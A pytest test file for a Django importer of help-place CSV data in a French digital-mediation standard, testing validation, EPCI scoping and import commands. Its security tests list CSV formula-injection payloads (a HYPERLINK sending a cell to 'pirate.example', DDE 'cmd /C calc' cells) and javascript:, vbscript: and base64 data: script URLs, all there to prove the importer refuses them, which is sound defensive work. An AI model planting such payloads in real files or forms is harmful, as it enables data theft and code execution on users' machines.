import csv
import io
import json
import subprocess
from datetime import date
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import models

from core.models import JournalEntry
from directory import standard
from directory.errors import DirectoryError
from directory.models import HelpPlace
from directory.services import help_places_import
from territories.models import EPCI, Commune
from tests.directory.places import place as stored_place

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
DEMO_CSV = ROOT / "directory/data/demo-lieux.csv"
SCHEMA = ROOT / "directory/data/schema.json"
# The standard as shipped next to the repository (see the issue).
# The standard's own valid example (LaMednum/standard-mediation-num, Etalab 2.0).
OFFICIAL_EXAMPLE = Path(__file__).resolve().parent / "exemple-officiel.csv"
COLUMNS = standard.column_names()
GOOD = {
    "id": "lieu-1",
    "pivot": "43493312300029",
    "nom": "Point Information Jeunesse",
    "commune": "Nogent-le-Rotrou",
    "code_postal": "28400",
    "code_insee": "28280",
    "adresse": "1 rue de la Gare",
    "horaires": "Mo-Fr 09:00-12:00,14:00-18:00; PH off",
    "date_maj": "2026-11-02",
    "services": "Aide aux démarches administratives",
    "publics_specifiquement_adresses": "Jeunes",
    "frais_a_charge": "Gratuit",
    "modalites_acces": "Se présenter|Téléphoner",
}
DEMO_EPCIS = {
    "demo-pij-cc-perche": ("28280", "200006971"),
    "demo-pij-espace-jeunes-senonches": ("28373", "200069912"),
    "demo-france-services-senonches": ("28373", "200069912"),
    "demo-maison-du-tertre-nogent": ("28280", "200006971"),
    "demo-cbe-nogent": ("28280", "200006971"),
    "demo-mission-locale-nogent": ("28280", "200006971"),
    "demo-france-services-la-loupe": ("28214", "200070167"),
    "demo-france-services-authon-du-perche": ("28018", "200006971"),
    "demo-france-services-belleme": ("61038", "200071504"),
    "demo-france-services-mortagne-au-perche": ("61293", "200036069"),
    "demo-france-services-la-ferte-bernard": ("72132", "247200686"),
}


def place_csv(*rows: dict, columns=COLUMNS) -> bytes:
    """A CSV in the standard: each row is GOOD with the given changes."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    for changes in rows:
        row = dict.fromkeys(columns, "")
        row.update({key: value for key, value in GOOD.items() if key in columns})
        row.update(changes)
        writer.writerow(row)
    return out.getvalue().encode()


def table() -> list[dict]:
    return list(HelpPlace.objects.order_by("pk").values())


def test_every_column_of_the_standard_has_a_field():
    field_names = {field.name for field in HelpPlace._meta.get_fields()}
    assert len(COLUMNS) == 32
    assert all(column.field in field_names for column in standard.columns())
    assert standard.column("id").field == "standard_id"
    required = {column.name for column in standard.columns() if column.required}
    assert required == {
        "id",
        "pivot",
        "nom",
        "commune",
        "code_postal",
        "adresse",
        "date_maj",
    }
    for column in standard.columns():
        model_field = HelpPlace._meta.get_field(column.field)
        assert model_field.blank is not column.required, column.name
        if column.multiple:
            assert model_field.get_internal_type() == "JSONField", column.name


def test_closed_lists_are_read_from_the_schema():
    schema = json.loads(SCHEMA.read_text())
    services = next(f for f in schema["fields"] if f["name"] == "services")
    choices = standard.choices("services")
    assert len(choices) == 9
    assert all(choice in services["constraints"]["pattern"] for choice in choices)
    assert "Aide aux démarches administratives" in choices
    assert standard.choices("publics_specifiquement_adresses") == (
        "Jeunes",
        "Étudiants",
        "Familles et/ou enfants",
        "Seniors",
        "Femmes",
    )
    assert "Relais numérique (Emmaüs Connect)" in standard.choices(
        "dispositif_programmes_nationaux"
    )
    assert standard.choices("nom") == ()


def test_schema_is_the_standard_v1_0_2():
    schema = json.loads(SCHEMA.read_text())
    assert schema["version"] == "v1.0.2"
    assert schema["name"] == "standard-mediation-num"
    assert len(schema["fields"]) == 32


def test_official_example_imports(reims):
    report = help_places_import(data=OFFICIAL_EXAMPLE.read_bytes())
    assert (report.created, report.updated, report.unchanged) == (1, 0, 0)
    assert report.problems == []
    assert report.warnings == []
    place = HelpPlace.objects.get(standard_id="structure-1")
    assert place.commune == reims
    assert place.epci == reims.epci
    assert place.commune_nom == "Reims"
    assert (place.latitude, place.longitude) == (43.52609, 5.41423)
    assert place.coordinates_source == HelpPlace.CoordinatesSource.PLACE
    assert place.typologie == ["TIERS_LIEUX", "ASSO"]
    assert place.services == [
        "Maîtrise des outils numériques du quotidien",
        "Insertion professionnelle via le numérique",
        "Loisirs et créations numériques",
    ]
    assert place.frais_a_charge == ["Gratuit sous condition", "Payant"]
    assert place.formations_labels == [
        "Formé à « Mon Espace Santé »",
        "Arnia/MedNum BFC (Bourgogne-Franche-Comté)",
    ]
    assert place.itinerance == ["Itinérant"]
    assert place.date_maj == date(2024, 4, 2)
    assert place.horaires == "Mo-Fr 09:00-12:00,14:00-18:30; Sa 08:30-12:00"
    assert HelpPlace.objects.filter(services__contains=["Payant"]).count() == 0
    assert HelpPlace.objects.filter(frais_a_charge__contains=["Payant"]).count() == 1


def test_demo_file_imports_and_links_places_to_commune_and_epci(perche):
    report = help_places_import(data=DEMO_CSV.read_bytes())
    assert (report.created, report.updated, report.unchanged) == (11, 0, 0)
    assert report.warnings == []
    places = {p.standard_id: p for p in HelpPlace.objects.select_related("epci")}
    assert {
        key: (p.commune.insee_code, p.epci.siren) for key, p in places.items()
    } == DEMO_EPCIS
    assert {p.commune.departement for p in places.values()} == {"28", "61", "72"}
    senonches = places["demo-pij-espace-jeunes-senonches"]
    assert senonches.horaires == "Mo-Fr 09:00-18:00"
    assert senonches.publics_specifiquement_adresses == ["Jeunes"]
    assert (senonches.latitude, senonches.longitude) == (48.5603, 1.0338)
    assert senonches.coordinates_source == HelpPlace.CoordinatesSource.COMMUNE
    assert places["demo-cbe-nogent"].horaires == "Mo-Su 08:30-18:30"
    assert all(p.source == "démo" for p in places.values())
    assert all("à confirmer" in p.presentation_detail for p in places.values())
    assert all(p.adresse == "Adresse à confirmer" for p in places.values())
    helping = HelpPlace.objects.filter(
        services__contains=["Aide aux démarches administratives"]
    )
    assert helping.count() == 8
    entry = JournalEntry.objects.get(action="directory.help_places_imported")
    assert entry.details["created"] == 11


def test_demo_file_is_valid_for_the_official_validator():
    result = subprocess.run(
        [
            str(ROOT / ".venv/bin/frictionless"),
            "validate",
            "--json",
            "--schema",
            "directory/data/schema.json",
            "directory/data/demo-lieux.csv",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    report = json.loads(result.stdout)
    assert report["valid"] is True
    assert report["tasks"][0]["stats"]["rows"] == 11


def test_reimport_is_idempotent_and_updates_by_id(perche):
    help_places_import(data=DEMO_CSV.read_bytes())
    created_at = HelpPlace.objects.get(standard_id="demo-cbe-nogent").created_at
    again = help_places_import(data=DEMO_CSV.read_bytes())
    assert (again.created, again.updated, again.unchanged) == (0, 0, 11)

    text = DEMO_CSV.read_text(encoding="utf-8")
    changed = text.replace("Mo-Su 08:30-18:30", "Mo-Fr 08:30-18:30; PH off")
    assert changed != text
    report = help_places_import(data=changed.encode())
    assert (report.created, report.updated, report.unchanged) == (0, 1, 10)
    cbe = HelpPlace.objects.get(standard_id="demo-cbe-nogent")
    assert cbe.horaires == "Mo-Fr 08:30-18:30; PH off"
    assert cbe.created_at == created_at
    assert HelpPlace.objects.count() == 11


def test_coordinates_of_the_place_replace_the_communes(perche):
    help_places_import(data=place_csv({}))
    place = HelpPlace.objects.get()
    assert place.coordinates_source == HelpPlace.CoordinatesSource.COMMUNE
    help_places_import(data=place_csv({"latitude": "48.3201", "longitude": "0.8115"}))
    place.refresh_from_db()
    assert (place.latitude, place.longitude) == (48.3201, 0.8115)
    assert place.coordinates_source == HelpPlace.CoordinatesSource.PLACE


def test_commune_found_by_name_and_postcode_without_insee_code(perche):
    help_places_import(
        data=place_csv(
            {"code_insee": "", "commune": "nogent le rotrou"},
            {
                "id": "lieu-2",
                "code_insee": "",
                "commune": "Bellême",
                "code_postal": "61130",
            },
        )
    )
    assert HelpPlace.objects.get(standard_id="lieu-1").commune.insee_code == "28280"
    assert HelpPlace.objects.get(standard_id="lieu-2").epci.siren == "200071504"


def test_the_epci_given_manages_the_places_and_keeps_them(perche):
    perche_cc = EPCI.objects.get(siren="200006971")
    terres = EPCI.objects.get(siren="200070167")
    help_places_import(data=place_csv({}), epci=perche_cc)
    assert HelpPlace.objects.get().epci == perche_cc
    before = table()
    with pytest.raises(DirectoryError) as raised:
        help_places_import(data=place_csv({"nom": "Autre"}), epci=terres)
    assert (
        "ligne 2, id : « lieu-1 » est un lieu géré par "
        "Communauté de communes du Perche." in raised.value.problems
    )
    assert table() == before
    entry = JournalEntry.objects.get(action="directory.help_places_imported")
    assert entry.target_id == str(perche_cc.pk)


# An import for one EPCI (a coordinator's, or `--epci`) -----------------------

PERCHE = "200006971"  # Nogent-le-Rotrou's EPCI, GOOD's
SENONCHES_CC = "200069912"  # Communauté de communes des Forêts du Perche
TERRES_DE_PERCHE = "200070167"
SENONCHES = {"commune": "Senonches", "code_postal": "28250", "code_insee": "28373"}
LA_LOUPE = {"commune": "La Loupe", "code_postal": "28240", "code_insee": "28214"}
SENONCHES_REFUSED = (
    "ligne {line}, commune : Senonches (28373) n'est pas une commune de "
    "Communauté de communes du Perche : un import pour cet EPCI n'y crée ni n'y "
    "déplace aucun lieu."
)


@pytest.mark.parametrize("only_valid_rows", [False, True])
def test_an_import_for_one_epci_writes_nothing_in_another(perche, only_valid_rows):
    perche_cc = EPCI.objects.get(siren=PERCHE)
    help_places_import(data=place_csv({"id": "lieu-perche"}), epci=perche_cc)
    before = table()
    data = place_csv(
        {"id": "lieu-senonches", **SENONCHES},
        # A place of the EPCI, moved by the file to a commune of another.
        {"id": "lieu-perche", **SENONCHES},
        {"id": "lieu-bien", "nom": "Médiathèque"},
    )

    if only_valid_rows:
        report = help_places_import(data=data, epci=perche_cc, only_valid_rows=True)
        problems = [str(problem) for problem in report.problems]
        assert (report.created, report.updated) == (1, 0)
        created = HelpPlace.objects.get(standard_id="lieu-bien")
        assert (created.commune.insee_code, created.epci) == ("28280", perche_cc)
        assert [row for row in table() if row["standard_id"] != "lieu-bien"] == before
    else:
        with pytest.raises(DirectoryError) as raised:
            help_places_import(data=data, epci=perche_cc)
        problems = raised.value.problems
        assert raised.value.message == (
            "Le fichier contient 2 erreur(s) sur 2 ligne(s) : rien n'a été importé."
        )
        assert table() == before
    assert problems == [
        SENONCHES_REFUSED.format(line=2),
        SENONCHES_REFUSED.format(line=3),
    ]
    assert not HelpPlace.objects.filter(commune__insee_code="28373").exists()


def test_an_import_without_epci_still_imports_everywhere(perche):
    report = help_places_import(
        data=place_csv({}, {"id": "lieu-2", **SENONCHES}, {"id": "lieu-3", **LA_LOUPE})
    )
    assert report.created == 3
    assert set(HelpPlace.objects.values_list("epci__siren", flat=True)) == {
        PERCHE,
        SENONCHES_CC,
        TERRES_DE_PERCHE,
    }


@pytest.mark.parametrize("only_valid_rows", [False, True])
@pytest.mark.parametrize("commune", [{}, SENONCHES], ids=["nogent", "senonches"])
def test_an_import_for_one_epci_does_not_change_a_place_it_does_not_manage(
    perche, only_valid_rows, commune
):
    """By its `id`, whether the line keeps the place where it is or moves it."""
    help_places_import(data=place_csv({"id": "lieu-b", **SENONCHES}))
    nogent = Commune.objects.get(insee_code="28280")
    stored_place(nogent, "lieu-sans-epci")  # no EPCI: only an administrator changes it
    before = table()
    data = place_csv(
        {"id": "lieu-b", "nom": "Repris", **commune},
        {"id": "lieu-sans-epci", "nom": "Repris"},
    )
    perche_cc = EPCI.objects.get(siren=PERCHE)
    if only_valid_rows:
        with pytest.raises(DirectoryError, match="Aucune ligne valide") as raised:
            help_places_import(data=data, epci=perche_cc, only_valid_rows=True)
    else:
        with pytest.raises(DirectoryError) as raised:
            help_places_import(data=data, epci=perche_cc)
    assert (
        "ligne 2, id : « lieu-b » est un lieu géré par Communauté de communes des "
        "Forêts du Perche." in raised.value.problems
    )
    assert (
        "ligne 3, id : « lieu-sans-epci » est un lieu qu'aucun EPCI ne gère : seul "
        "un administrateur le modifie." in raised.value.problems
    )
    assert table() == before


def formula_cases():
    """(column, cell, what the reason says of the cell's start)."""
    return [
        ("nom", '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")', "= »"),
        ("adresse", "@SUM(1+1)*cmd|' /C calc'!A0", "@ »"),
        ("complement_adresse", "+cmd|' /C calc'!A0", "+ »"),
        ("presentation_detail", "-2+3", "- »"),
        ("source", "=cmd|' /C calc'!A0", "= »"),
        ("structure_parente", "\t=1+1", "= »"),
        ("autres_formations_labels", "\tSUM(1)", "tabulation"),
        ("presentation_resume", "\rSUM(1)", "retour chariot"),
        ("typologie", 'ASSO|=HYPERLINK("https://pirate.example")', "= »"),
        ("horaires", "@Mo-Fr 09:00-12:00", "@ »"),
        ("id", "-lieu", "- »"),
        ("commune", "=Nogent-le-Rotrou", "= »"),
        ("prise_rdv", '=HYPERLINK("https://rdv.example.org")', "= »"),
    ]


@pytest.mark.parametrize(("column", "value", "start"), formula_cases())
def test_a_cell_a_spreadsheet_would_run_is_refused(perche, column, value, start):
    # Quoted, as a spreadsheet writes it (a bare carriage return ends a line).
    quoted = '"' + value.replace('"', '""') + '"'
    data = place_csv({column: "CELLULE"}).replace(b"CELLULE", quoted.encode())
    with pytest.raises(DirectoryError) as raised:
        help_places_import(data=data)
    (problem,) = raised.value.problems
    assert problem.startswith(f"ligne 2, {column} : « ")
    assert (
        f"{start}, qu'un tableur prendrait pour le début d'une formule et "
        "exécuterait : retirez ce caractère du début de la cellule."
    ) in problem
    assert not HelpPlace.objects.exists()


def test_phone_numbers_negative_numbers_dates_and_lists_are_no_formulas(perche):
    help_places_import(
        data=place_csv(
            {
                "telephone": "+33237521234",
                "latitude": "48.3201",
                "longitude": "-0.8115",
                "date_maj": "2026-11-02",
                "typologie": "MUNI|ASSO",
                "frais_a_charge": "Gratuit",
                "nom": "PIJ - Espace jeunes",
                "presentation_detail": "Ateliers : = égalité, + de 20 ans, @PIJ",
                "courriels": "pij+contact@nogent.fr",
            }
        )
    )
    place = HelpPlace.objects.get()
    assert place.telephone == "+33237521234"
    assert place.longitude == -0.8115
    assert place.courriels == ["pij+contact@nogent.fr"]


@pytest.mark.parametrize(
    ("column", "value", "expected"),
    [
        (
            "site_web",
            "javascript:alert(document.cookie)",
            "ligne 2, site_web : « javascript:alert(document.cookie) » n'est pas une "
            "adresse web : elle commence par https:// ou http:// (exemple : "
            "https://www.laquincaillerie.tl/).",
        ),
        (
            "site_web",
            "https://pij.example.org|JavaScript:alert(1)",
            "ligne 2, site_web : « JavaScript:alert(1) » n'est pas une adresse web",
        ),
        (
            "site_web",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "« data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== » n'est "
            "pas une adresse web",
        ),
        ("site_web", "ftp://ftp.example.org/", "« ftp://ftp.example.org/ » n'est pas"),
        ("site_web", "www.pij-nogent.fr", "« www.pij-nogent.fr » n'est pas une adr"),
        (
            "prise_rdv",
            "javascript:alert(1)",
            "ligne 2, prise_rdv : « javascript:alert(1) » n'est pas une adresse web",
        ),
        (
            "fiche_acces_libre",
            "vbscript:msgbox(1)",
            "ligne 2, fiche_acces_libre : « vbscript:msgbox(1) » n'est pas une adr",
        ),
        (
            "courriels",
            "contact@pij",
            "ligne 2, courriels : « contact@pij » n'est pas une adresse électronique "
            "valide (exemple : contact@laquincaillerie.tl).",
        ),
        (
            "courriels",
            "pij@nogent.fr|pas une adresse",
            "ligne 2, courriels : « pas une adresse » n'est pas une adresse électr",
        ),
        (
            "courriels",
            "pij@nogent.fr?bcc=tous@example.org",
            "« pij@nogent.fr?bcc=tous@example.org » n'est pas une adresse électr",
        ),
    ],
)
def test_web_addresses_and_emails_are_real_ones(perche, column, value, expected):
    with pytest.raises(DirectoryError) as raised:
        help_places_import(data=place_csv({column: value}))
    assert expected in "\n".join(raised.value.problems)
    assert not HelpPlace.objects.exists()


def latin1_file() -> bytes:
    return place_csv({}, {"id": "lieu-2", "nom": "Épicerie"}).replace(
        "Épicerie".encode(), "Épicerie".encode("latin-1")
    )


def multiline_file() -> bytes:
    return place_csv(
        {"presentation_detail": "Première ligne\nseconde ligne"},
        {"id": "lieu-2", "horaires": "Lu-Ve 9h"},
    )


BAD_FILES = [
    (b"", "Le fichier est vide"),
    (b"\xef\xbb\xbf \n\n", "Le fichier est vide"),
    (
        place_csv({}, columns=[c for c in COLUMNS if c not in ("pivot", "date_maj")]),
        "Colonne(s) obligatoire(s) manquante(s) : pivot, date_maj.",
    ),
    (latin1_file(), "ligne 3 : caractère illisible"),
    (place_csv({}, {}), "ligne 3, id : « lieu-1 » déjà présent ligne 2."),
    (
        place_csv({"code_insee": "51454"}),
        "ligne 2, code_insee : « 51454 » ne correspond à aucune commune connue.",
    ),
    (
        place_csv({"code_insee": "", "commune": "Reims", "code_postal": "51100"}),
        "ligne 2, commune : « Reims » (51100) ne correspond à aucune commune connue",
    ),
    (
        place_csv({"code_insee": "2828"}),
        "ligne 2, code_insee : « 2828 » n'a pas le format attendu (exemple : 51454).",
    ),
    (
        place_csv({"code_postal": "284"}),
        "ligne 2, code_postal : « 284 » n'a pas le format attendu (exemple : 51100).",
    ),
    (
        place_csv({"code_postal": "61000"}),
        "ligne 2, code_postal : « 61000 » est un code postal d'un autre département "
        "que Nogent-le-Rotrou (28400).",
    ),
    (
        place_csv({"code_insee": "", "code_postal": "61000"}),
        "ligne 2, code_postal : « 61000 » est un code postal d'un autre département "
        "que Nogent-le-Rotrou (28400).",
    ),
    (
        place_csv({"horaires": "Lu-Ve 9h"}),
        "ligne 2, horaires : « Lu-Ve 9h » n'est pas au format OpenStreetMap "
        "(exemple : Mo-Fr 09:00-12:00).",
    ),
    (multiline_file(), "ligne 4, horaires : « Lu-Ve 9h »"),
    (
        place_csv({"services": "Aide aux démarches administratives|Aide au CV"}),
        "ligne 2, services : « Aide au CV » : valeur hors de la liste du standard "
        "(valeurs possibles : Aide aux démarches administratives ;",
    ),
    (
        place_csv({"publics_specifiquement_adresses": "Jeune"}),
        "ligne 2, publics_specifiquement_adresses : « Jeune » : valeur hors de la "
        "liste du standard (valeurs possibles : Jeunes ; Étudiants ;",
    ),
    (
        place_csv({"frais_a_charge": "Gratuite"}),
        "ligne 2, frais_a_charge : « Gratuite »",
    ),
    (
        place_csv({"modalites_acces": "Sur rendez-vous"}),
        "ligne 2, modalites_acces : « Sur rendez-vous » : valeur hors de la liste",
    ),
    (place_csv({"itinerance": "Mobile"}), "ligne 2, itinerance : « Mobile »"),
    (
        place_csv({"latitude": "nord", "longitude": "0.8"}),
        "ligne 2, latitude : « nord » n'est pas un nombre.",
    ),
    (
        place_csv({"latitude": "48,32", "longitude": "0.8"}),
        "ligne 2, latitude : « 48,32 » n'est pas un nombre (séparateur décimal : "
        "le point).",
    ),
    (
        place_csv({"latitude": "95", "longitude": "0.8"}),
        "ligne 2, latitude : « 95.0 » hors de -90 à 90.",
    ),
    (
        place_csv({"latitude": "48.3", "longitude": "-200"}),
        "ligne 2, longitude : « -200.0 » hors de -180 à 180.",
    ),
    (
        place_csv({"latitude": "48.3"}),
        "ligne 2, latitude : latitude et longitude vont ensemble.",
    ),
    (
        place_csv({"date_maj": "02/11/2026"}),
        "ligne 2, date_maj : « 02/11/2026 » n'est pas une date au format AAAA-MM-JJ.",
    ),
    (place_csv({"date_maj": "2026-02-30"}), "ligne 2, date_maj : « 2026-02-30 »"),
    (place_csv({"date_maj": "20261102"}), "ligne 2, date_maj : « 20261102 »"),
    (place_csv({"nom": "  "}), "ligne 2, nom : champ obligatoire vide."),
    (place_csv({"adresse": ""}), "ligne 2, adresse : champ obligatoire vide."),
    (place_csv({"pivot": "123"}), "ligne 2, pivot : « 123 » n'a pas le format"),
    (
        place_csv({"telephone": "02 37 52 00 00"}),
        "ligne 2, telephone : « 02 37 52 00 00 » n'a pas le format attendu "
        "(exemple : +33180059880).",
    ),
    (
        place_csv({"presentation_resume": "x" * 281}),
        "ligne 2, presentation_resume : 281 caractères, 280 au maximum.",
    ),
    (place_csv({}) + b'"en trop"\n', "ligne 3 : 1 cellule(s) au lieu de 32."),
    (place_csv(), "Le fichier ne contient aucun lieu."),
]


@pytest.mark.parametrize(("data", "expected"), BAD_FILES)
def test_bad_file_is_refused_with_line_field_and_reason(perche, data, expected):
    help_places_import(data=DEMO_CSV.read_bytes())
    before = table()
    journal_before = JournalEntry.objects.count()
    with pytest.raises(DirectoryError) as raised:
        help_places_import(data=data)
    assert expected in "\n".join([raised.value.message, *raised.value.problems])
    assert table() == before
    assert JournalEntry.objects.count() == journal_before


def test_every_problem_of_every_line_is_reported(perche):
    data = place_csv(
        {"horaires": "Lu-Ve 9h", "frais_a_charge": "Gratuite"},
        {"id": "lieu-2"},
        {"id": "lieu-3", "code_postal": "1"},
    )
    with pytest.raises(DirectoryError) as raised:
        help_places_import(data=data)
    assert raised.value.message == (
        "Le fichier contient 3 erreur(s) sur 2 ligne(s) : rien n'a été importé."
    )
    assert [problem.split(" :")[0] for problem in raised.value.problems] == [
        "ligne 2, horaires",
        "ligne 2, frais_a_charge",
        "ligne 4, code_postal",
    ]
    assert not HelpPlace.objects.exists()


def test_only_valid_rows_writes_the_good_lines_and_reports_the_others(perche):
    data = place_csv(
        {},
        {"id": "lieu-2", "horaires": "Lu-Ve 9h"},
        {"id": "lieu-3", "nom": "Autre lieu"},
    )
    report = help_places_import(data=data, only_valid_rows=True)
    assert (report.created, report.updated, report.unchanged) == (2, 0, 0)
    assert report.rejected_lines == [3]
    assert [str(problem) for problem in report.problems] == [
        "ligne 3, horaires : « Lu-Ve 9h » n'est pas au format OpenStreetMap "
        "(exemple : Mo-Fr 09:00-12:00)."
    ]
    assert str(report) == ("2 lieux créés, 0 mis à jour, 0 inchangé. 1 ligne rejetée.")
    assert set(HelpPlace.objects.values_list("standard_id", flat=True)) == {
        "lieu-1",
        "lieu-3",
    }
    entry = JournalEntry.objects.get(action="directory.help_places_imported")
    assert entry.details["rejected_lines"] == [3]


def test_only_valid_rows_with_no_valid_row_writes_nothing(perche):
    with pytest.raises(DirectoryError, match="Aucune ligne valide") as raised:
        help_places_import(
            data=place_csv({"horaires": "Lu-Ve 9h"}), only_valid_rows=True
        )
    assert raised.value.problems[0].startswith("ligne 2, horaires")
    assert not HelpPlace.objects.exists()
    assert not JournalEntry.objects.filter(action__startswith="directory.").exists()


def test_a_cedex_postcode_of_the_same_departement_is_kept_with_a_warning(perche):
    report = help_places_import(data=place_csv({"code_postal": "28402"}))
    assert report.created == 1
    assert HelpPlace.objects.get().code_postal == "28402"
    assert (
        "ligne 2, code_postal : « 28402 » n'est pas un code postal de "
        "Nogent-le-Rotrou (28400) : gardé tel quel, vérifiez-le (code CEDEX ?)."
    ) in report.warnings


def test_columns_outside_the_standard_are_ignored_with_a_warning(perche):
    columns = [c for c in COLUMNS if c != "prise_rdv"] + ["remarque"]
    report = help_places_import(data=place_csv({"remarque": "x"}, columns=columns))
    assert report.created == 1
    assert report.warnings == [
        "Colonne(s) hors du standard, ignorée(s) : remarque.",
        "Colonne(s) facultative(s) absente(s), laissée(s) vide(s) : prise_rdv.",
    ]


def test_byte_order_mark_and_spaces_are_accepted(perche):
    data = b"\xef\xbb\xbf" + place_csv(
        {
            "services": " Aide aux démarches administratives | Accès internet et "
            "matériel informatique ",
            "nom": " PIJ ",
        }
    )
    help_places_import(data=data)
    place = HelpPlace.objects.get()
    assert place.nom == "PIJ"
    assert place.services == [
        "Aide aux démarches administratives",
        "Accès internet et matériel informatique",
    ]


def test_command_imports_and_prints_the_report(perche, capsys):
    call_command("import_help_places", str(DEMO_CSV))
    assert "11 lieux créés, 0 mis à jour, 0 inchangé." in capsys.readouterr().out


def test_command_assigns_the_epci(perche, tmp_path):
    path = tmp_path / "lieux.csv"
    path.write_bytes(place_csv(LA_LOUPE))
    call_command("import_help_places", str(path), "--epci", TERRES_DE_PERCHE)
    assert HelpPlace.objects.get().epci.siren == TERRES_DE_PERCHE
    with pytest.raises(CommandError, match="Aucun EPCI de SIREN 999999999"):
        call_command("import_help_places", str(path), "--epci", "999999999")


def test_command_with_an_epci_refuses_the_lines_of_another(perche, tmp_path, capsys):
    path = tmp_path / "lieux.csv"
    path.write_bytes(place_csv({}, {"id": "lieu-2", **SENONCHES}))
    with pytest.raises(CommandError) as raised:
        call_command("import_help_places", str(path), "--epci", PERCHE)
    assert SENONCHES_REFUSED.format(line=3) in str(raised.value)
    assert not HelpPlace.objects.exists()

    call_command("import_help_places", str(path), "--epci", PERCHE, "--lignes-valides")
    assert "Rejetée : " + SENONCHES_REFUSED.format(line=3) in capsys.readouterr().out
    assert list(HelpPlace.objects.values_list("standard_id", "epci__siren")) == [
        ("lieu-1", PERCHE)
    ]


def test_command_reports_every_problem_and_writes_nothing(perche, tmp_path):
    path = tmp_path / "lieux.csv"
    path.write_bytes(
        place_csv({"horaires": "Lu-Ve 9h"}, {"id": "lieu-2", "code_insee": "51454"})
    )
    with pytest.raises(CommandError) as raised:
        call_command("import_help_places", str(path))
    message = str(raised.value)
    assert "rien n'a été importé" in message
    assert "ligne 2, horaires : « Lu-Ve 9h »" in message
    assert "ligne 3, code_insee : « 51454 »" in message
    assert not HelpPlace.objects.exists()
    with pytest.raises(CommandError, match="Impossible de lire"):
        call_command("import_help_places", str(tmp_path / "absent.csv"))


def test_command_valid_lines_option(perche, tmp_path, capsys):
    path = tmp_path / "lieux.csv"
    path.write_bytes(place_csv({}, {"id": "lieu-2", "code_insee": "51454"}))
    call_command("import_help_places", str(path), "--lignes-valides")
    out = capsys.readouterr().out
    assert "Rejetée : ligne 3, code_insee : « 51454 »" in out
    assert "1 lieu créé" in out
    assert list(HelpPlace.objects.values_list("standard_id", flat=True)) == ["lieu-1"]


def test_commune_deletion_is_protected_by_its_places(perche):
    help_places_import(data=place_csv({}))
    with pytest.raises(models.ProtectedError):
        Commune.objects.get(insee_code="28280").delete()
